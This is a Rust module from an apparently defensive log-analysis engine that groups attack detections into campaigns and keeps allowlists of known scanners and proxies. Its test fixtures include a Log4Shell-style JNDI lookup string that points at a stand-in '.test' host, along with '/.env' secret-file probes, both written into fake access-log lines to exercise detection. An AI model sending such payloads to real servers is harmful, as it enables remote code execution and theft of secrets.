//! Decisions over everything that is kept: windows of all organisations to campaigns, each on its
//! step of the ladder.

use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

use relight_model::{Campaign, Detection, Digest, Exposure, OrgId, Sign, Site, SiteId, Timestamp};
use relight_store::{Store, StoreError};
use relight_watch::{
    Claims, Dossier, Found, Home, Known, KnownScanners, Places, Pool, ROWS_MAX, Scope, Window,
    campaigns, gather, read_signs,
};

use super::{KNOWN_SCANNERS, SIGNS, compact, list, names};
use crate::error::EngineError;
use crate::then::{INVENTORY_AGE_MAX_S, Then};

/// Days before and after a campaign in which a line of a site says that it would have been heard:
/// a site with few visitors sends none on most days, and is listened to all the same.
const HEARD_AROUND_DAYS: i64 = 14;

/// What is done with the list of scanners that mean well.
const READING_SCANNERS: &str = "reading the list of known scanners";

/// Campaigns, and of whom they may be missing.
#[derive(Clone, Debug)]
pub struct Judged {
    /// See [`campaigns_of`].
    pub campaigns: Vec<Campaign>,
    /// Share of all sources whose contacts all fitted into memory; below 1 the rest are a fair
    /// share of everybody, and nothing is said of them.
    pub sources_kept: f64,
}

/// Every campaign that the kept windows of all organisations together show, each on its step of
/// the ladder by what the register knows about its targets. Takes no lease: whoever controls the
/// register goes on undisturbed.
///
/// # Errors
/// The store cannot be read, or a window in it is of another version.
pub fn campaigns_of(store: &Store) -> Result<Vec<Campaign>, EngineError> {
    Ok(judged(store)?.campaigns)
}

/// As [`campaigns_of`], with how many sources did not fit. Computes it anew: whoever goes on asking
/// asks [`crate::Engine::campaigns`].
///
/// # Errors
/// As [`campaigns_of`].
pub fn judged(store: &Store) -> Result<Judged, EngineError> {
    judged_within(store, ROWS_MAX)
}

fn judged_within(store: &Store, rows_max: usize) -> Result<Judged, EngineError> {
    let register = Register::read(store)?;
    join(store, &register, &decide(store, &register, rows_max)?)
}

/// What the windows alone decide: it stays until they change.
#[derive(Debug)]
pub(super) struct Decided {
    pub(super) detections: Vec<Detection>,
    /// Sources that many people use.
    crowds: BTreeSet<IpAddr>,
    sources_kept: f64,
}

/// Campaigns from what was decided, with what the register knows: that may be corrected at any
/// time.
pub(super) fn join(
    store: &Store,
    register: &Register,
    decided: &Decided,
) -> Result<Judged, EngineError> {
    let mut campaigns = graded(store, register, campaigns(&decided.detections))?;
    for campaign in &mut campaigns {
        let crowded = |source: &&IpAddr| decided.crowds.contains(source);
        campaign.crowded = campaign.sources.iter().filter(crowded).copied().collect();
    }
    names::keep(store, &mut campaigns)?;
    Ok(Judged { campaigns, sources_kept: decided.sources_kept })
}

/// Decides over all windows; the pool takes up to 390 MB while it lasts.
pub(super) fn decide(
    store: &Store,
    register: &Register,
    rows_max: usize,
) -> Result<Decided, EngineError> {
    let (mut pool, mut claims) = (Pool::new(rows_max), Claims::of(&known_scanners(store)?.0));
    each_organisation(store, |_, windows, home| {
        windows.iter().for_each(|window| pool.add(window, home));
        windows.iter().for_each(|window| claims.add(window));
    })?;
    let found = Found::of(&mut pool, &register.places, claims);
    let stats = pool.stats();
    drop(pool);
    let mut dossier = Dossier::default();
    each_organisation(store, |org, windows, home| {
        windows.iter().for_each(|window| dossier.add(window, home, found.sources()));
        dossier.add_home(home, &register.own(org), found.sources());
    })?;
    let detections = found.judge(&dossier, &register.places);
    let sources = detections.iter().flat_map(|it| &it.sources).copied();
    let crowds = sources.filter(|source| dossier.is_crowd(*source)).collect();
    let sources_kept = stats.strong_share.min(stats.weak_share).min(found.share());
    Ok(Decided { detections, crowds, sources_kept })
}

/// Lines of a list that are none: their numbers, and what is wrong, by code.
pub type Faults = Vec<(usize, &'static str)>;

/// The list of scanners that mean well, from [`KNOWN_SCANNERS`] in the data folder, and the lines
/// of it that are none, by number and code. Without the file nobody is known.
///
/// # Errors
/// The file is there and cannot be read, or the register cannot.
pub fn known_scanners(store: &Store) -> Result<(KnownScanners, Faults), EngineError> {
    let text = list::text(store, KNOWN_SCANNERS, READING_SCANNERS)?;
    scanners_of(store, &text)
}

/// Reads the list with the names of the register: an organisation means its sites too.
fn scanners_of(store: &Store, text: &str) -> Result<(KnownScanners, Faults), EngineError> {
    let (sites, organisations) = (store.sites()?, store.organisations()?);
    let meaning = |name: &str| {
        if let Some(org) = organisations.iter().find(|org| org.name == name) {
            let own = sites.iter().filter(|site| site.org == org.id).map(|site| site.id);
            return Some(Scope { organisations: [org.id].into(), sites: own.collect() });
        }
        let site = sites.iter().find(|site| site.slug.as_str() == name)?;
        Some(Scope { organisations: BTreeSet::new(), sites: [site.id].into() })
    };
    Ok(KnownScanners::parse(text, &meaning))
}

/// The setting that keeps the networks of proxies whose forwarded header was believed.
const PROXIES_KEY: &str = "watch-proxies";

/// Most of them that are kept, those that were named last.
const PROXIES_MAX: usize = 1_000;

/// Keeps the networks of the operator's own proxies: a log that was read without naming them has
/// their addresses as sources, and nobody wants to block these.
///
/// # Errors
/// The store cannot be read or written.
pub fn note_proxies(store: &Store, networks: &[(IpAddr, u8)]) -> Result<(), EngineError> {
    let noted = store.settings(|settings| {
        let mut known = proxies_of(&settings.get(PROXIES_KEY)?.unwrap_or_default());
        let before = known.clone();
        known.extend(networks.iter().filter(|network| !before.contains(network)));
        known.drain(..known.len().saturating_sub(PROXIES_MAX));
        if known == before {
            return Ok(());
        }
        let lines = known.iter().map(|(address, bits)| format!("{address}/{bits}\n"));
        settings.put(PROXIES_KEY, &lines.collect::<String>())
    });
    Ok(noted?)
}

fn proxies_of(text: &str) -> Vec<(IpAddr, u8)> {
    let network = |line: &str| {
        let (address, bits) = line.split_once('/')?;
        Some((address.parse().ok()?, bits.parse().ok()?))
    };
    text.lines().filter_map(network).collect()
}

/// Networks of which no address is to be blocked at that time: whoever means well by the
/// operator's own list, and the operator's own proxies.
///
/// # Errors
/// The list or the store cannot be read.
pub fn never_blocked(store: &Store, now: Timestamp) -> Result<Vec<(IpAddr, u8)>, EngineError> {
    let mut never = proxies_of(&store.meta_get(PROXIES_KEY)?.unwrap_or_default());
    never.extend(known_scanners(store)?.0.networks(now));
    Ok(never)
}

/// The signs of success that somebody saw, from [`SIGNS`] in the data folder, and the lines of it
/// that are none, by number and code. Without the file there are none.
///
/// # Errors
/// The file is there and cannot be read, or the register cannot.
pub fn signs_seen(store: &Store) -> Result<(Vec<Sign>, Faults), EngineError> {
    signs_by(store, &store.sites()?)
}

fn signs_by(store: &Store, sites: &[Site]) -> Result<(Vec<Sign>, Faults), EngineError> {
    let by_name = list::sites_by_name(sites);
    let text = list::text(store, SIGNS, "reading the list of signs")?;
    Ok(read_signs(&text, &|name| by_name.get(name).copied()))
}

/// Looks at the windows of one organisation after the other, with who is at home there.
pub(super) fn each_organisation(
    store: &Store,
    mut see: impl FnMut(OrgId, &[Window], &Home),
) -> Result<(), EngineError> {
    for org in store.organisations()? {
        let mut home = Home::default();
        let mut windows = Vec::new();
        for bytes in store.windows_of(org.id)? {
            let window = Window::from_bytes(&bytes).map_err(|error| {
                EngineError::because(format!("reading a window of {}", org.name), error)
            })?;
            home.add(&window);
            windows.push(window);
        }
        see(org.id, &windows, &home);
    }
    Ok(())
}

/// What the register says about sites.
pub(super) struct Register {
    pub(super) sites: Vec<Site>,
    /// The sector of each organisation.
    pub(super) sectors: BTreeMap<OrgId, String>,
    /// Where they are, and when each was heard.
    pub(super) places: Places,
}

impl Register {
    pub(super) fn read(store: &Store) -> Result<Self, EngineError> {
        let organisations = store.organisations()?;
        let mut of_no_site = Vec::new();
        for org in &organisations {
            let days = store.watch_days_of_no_site(org.id)?;
            of_no_site.extend(days.into_iter().map(|day| (day, org.id)));
        }
        let sectors = organisations.into_iter().map(|org| (org.id, org.sector)).collect();
        let heard = store.watch_probes(compact::HEARD, 0, i64::MAX)?.into_iter();
        let heard = heard.flat_map(|(day, sites)| {
            sites.iter().map(|site| (day, SiteId(site))).collect::<Vec<_>>()
        });
        let mut read = Self { sites: store.sites()?, sectors, places: Places::default() };
        let sites = read.sites.iter().map(|site| (site.id, site.org, read.sector(site)));
        read.places = Places::new(sites).heard(heard).heard_of_no_site(of_no_site);
        Ok(read)
    }

    /// What decisions rest on: the windows, the names that may be claimed, and what the register
    /// says about places. The days on which these were heard change with the windows only.
    pub(super) fn ground(&self, store: &Store) -> Result<Digest, EngineError> {
        let mut hash = blake3::Hasher::new();
        hash.update(&store.windows_state()?.0);
        let names = list::text(store, KNOWN_SCANNERS, READING_SCANNERS)?;
        hash.update(&(names.len() as u64).to_le_bytes()).update(names.as_bytes());
        for site in &self.sites {
            hash.update(&site.id.0.to_le_bytes()).update(&site.org.0.to_le_bytes());
            hash.update(self.sector(site).as_bytes()).update(&[0]);
        }
        Ok(Digest(*hash.finalize().as_bytes()))
    }

    /// The site sent a line between two moments, or within [`HEARD_AROUND_DAYS`] of them.
    fn is_heard(&self, site: SiteId, from: Timestamp, to: Timestamp) -> bool {
        let day = |day: i64| u32::try_from(day.max(0)).unwrap_or(u32::MAX);
        let (from, to) = (compact::day_of(from), compact::day_of(to));
        let days = day(from - HEARD_AROUND_DAYS)..day(to + HEARD_AROUND_DAYS + 1);
        self.places.is_heard(site, days)
    }

    pub(super) fn sector(&self, site: &Site) -> &str {
        self.sectors.get(&site.org).map_or("", String::as_str)
    }

    /// The sites of an organisation: nobody is at home at another one's.
    fn own(&self, org: OrgId) -> BTreeSet<(OrgId, Option<SiteId>)> {
        let own = self.sites.iter().filter(|site| site.org == org);
        own.map(|site| (org, Some(site.id))).collect()
    }
}

/// Joins campaigns with the register: sectors, what each attempt met at its hour, and the signs of
/// success that somebody saw.
fn graded(
    store: &Store,
    register: &Register,
    mut campaigns: Vec<Campaign>,
) -> Result<Vec<Campaign>, EngineError> {
    let sites = register.sites.iter();
    let sectors: BTreeMap<SiteId, String> =
        sites.map(|site| (site.id, register.sector(site).to_owned())).collect();
    let attempts = campaigns.iter().flat_map(|campaign| &campaign.attempts);
    let flaws: BTreeSet<&str> = attempts.map(|attempt| attempt.flaw).collect();
    let flaws: Vec<String> = flaws.into_iter().map(str::to_owned).collect();
    let then = Then::new(store, &flaws, INVENTORY_AGE_MAX_S)?;
    let failed = RefCell::new(None);
    let known = |answer: Result<Exposure, StoreError>| {
        answer.unwrap_or_else(|error| {
            failed.replace(Some(error));
            Exposure::Unknown
        })
    };
    let exposure = |site, at, flaw: &str| known(then.exposure(site, at, flaw));
    let runs = |site, at, product: &str| known(then.runs(site, at, product));
    let signs = signs_by(store, &register.sites)?.0;
    let heard = |site, from, to| register.is_heard(site, from, to);
    let known =
        Known { sectors: &sectors, heard: &heard, exposure: &exposure, runs: &runs, signs: &signs };
    let scanners = known_scanners(store)?.0;
    for campaign in &mut campaigns {
        known.grade(campaign);
        scanners.put_apart(campaign);
    }
    let mut campaigns = gather(campaigns);
    campaigns.iter_mut().for_each(|campaign| known.complete(campaign));
    failed.into_inner().map_or(Ok(campaigns), |error| Err(error.into()))
}

#[cfg(test)]
pub(super) mod tests {
    use std::io::Cursor;

    use relight_watch::Feed;

    use super::super::tests::engine;
    use super::*;
    use crate::Engine;

    #[test]
    fn a_site_is_heard_around_its_lines_and_at_no_other_time() {
        let places = Places::default().heard([100, 200].map(|day| (day, SiteId(1))));
        let register = Register { sites: Vec::new(), sectors: BTreeMap::new(), places };
        let of = |site, from: i64, to: i64| {
            register.is_heard(SiteId(site), from * 86_400, to * 86_400 + 86_399)
        };
        assert!(of(1, 100, 100) && of(1, 114, 120) && of(1, 186, 186) && of(1, 90, 300));
        assert!(!of(1, 115, 185) && !of(1, 0, 85) && !of(1, 215, 215));
        assert!(!of(2, 100, 100), "no line of it");
    }

    /// Goal: a full pool is told. Method: a hundred addresses with a door of the catalogue each, in
    /// a pool with room for fewer.
    #[test]
    fn sources_that_do_not_fit_are_told() {
        let (_folder, engine, feed) = one_site();
        let log: String = (0..100)
            .map(|last| {
                format!(
                    "192.0.2.{last} - - [10/Dec/2021:12:00:00 +0000] \"GET /.env HTTP/1.1\" 404 9 \
                     \"-\" \"-\"\n"
                )
            })
            .collect();
        engine.ingest_log(&feed, Cursor::new(log.into_bytes())).unwrap();
        let kept = |rows_max| judged_within(engine.store(), rows_max).unwrap().sources_kept;
        assert!((kept(100) - 1.0).abs() < f64::EPSILON, "{}", kept(100));
        assert!((0.2..0.8).contains(&kept(50)), "{}", kept(50));
    }

    #[test]
    fn own_proxies_are_kept_and_the_limit_is_reached() {
        let (_folder, engine, _) = one_site();
        let store = engine.store();
        let network = |number: u32| (IpAddr::from(number.to_be_bytes()), 32);
        note_proxies(store, &[network(1), network(2)]).unwrap();
        note_proxies(store, &[network(2)]).unwrap();
        assert_eq!(never_blocked(store, 0).unwrap(), [network(1), network(2)]);
        let many: Vec<_> = (10..10 + PROXIES_MAX as u32).map(network).collect();
        note_proxies(store, &many).unwrap();
        assert_eq!(never_blocked(store, 0).unwrap(), many);
    }

    /// Goal: no proxy is lost that another process noted. Method: four connections note their own.
    #[test]
    fn proxies_that_are_noted_at_one_moment_are_all_kept() {
        let (_folder, engine, _) = one_site();
        let folder = engine.store().path().parent().unwrap();
        std::thread::scope(|scope| {
            for part in 0..4_u8 {
                scope.spawn(move || {
                    let store = Store::open(folder).unwrap();
                    for last in 0..25 {
                        let address = IpAddr::from([192, 0, 2, part * 25 + last]);
                        note_proxies(&store, &[(address, 32)]).unwrap();
                    }
                });
            }
        });
        assert_eq!(never_blocked(engine.store(), 0).unwrap().len(), 100);
    }

    pub(crate) fn one_site() -> (tempfile::TempDir, Engine, Feed) {
        let (folder, engine) = engine();
        let site = engine.store().sites().unwrap().remove(0);
        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
        (folder, engine, feed)
    }

    /// A payload that would have worked.
    pub(crate) fn payload(last: u8) -> String {
        format!(
            "198.51.100.{last} - - [10/Dec/2021:12:00:00 +0000] \
             \"GET /?q=${{jndi:ldap://x{last}.test/a}} HTTP/1.1\" 200 9 \"-\" \"-\"\n"
        )
    }
}
